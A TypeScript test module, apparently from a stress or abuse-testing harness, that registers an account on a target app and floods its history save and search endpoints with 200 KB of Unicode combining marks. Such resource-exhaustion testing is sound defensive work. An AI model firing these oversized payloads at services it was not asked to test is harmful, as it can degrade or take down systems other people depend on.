import { type Attack, scaled } from "../attack.ts";
import { bearer, fire, jsonCall, newAccount } from "../calls.ts";
import { marks } from "../texts.ts";

export const attack: Attack = {
  title: "200 KB of combining marks in saved results",
  async stage(target, scale) {
    const headers = bearer(await newAccount(target));
    const name = marks(scaled(200_000, scale));
    const teams = { input_names: `${name},B`, number_of_teams: 2, result: [[name], ["B"]] };
    const winners = { input_names: `${name},B`, number_of_winners: 1, result: name };
    const calls = [
      { path: "/api/history/team/", body: { name: "", ...teams } },
      { path: "/api/history/team/", body: { ...teams, name } },
      { path: "/api/history/winner/", body: { name: "", ...winners } },
      { path: "/api/history/pet-name/", body: { pet_type: "dog", gender: "any", result: name } },
    ].map(({ path, body }) => ({ path, ...jsonCall(body, headers) }));
    return async (assault) => {
      const search = `/api/history/?search=${encodeURIComponent(name.slice(0, 2000))}`;
      for (const call of [...calls, { path: search, headers }]) await fire(target, call, assault);
    };
  },
};
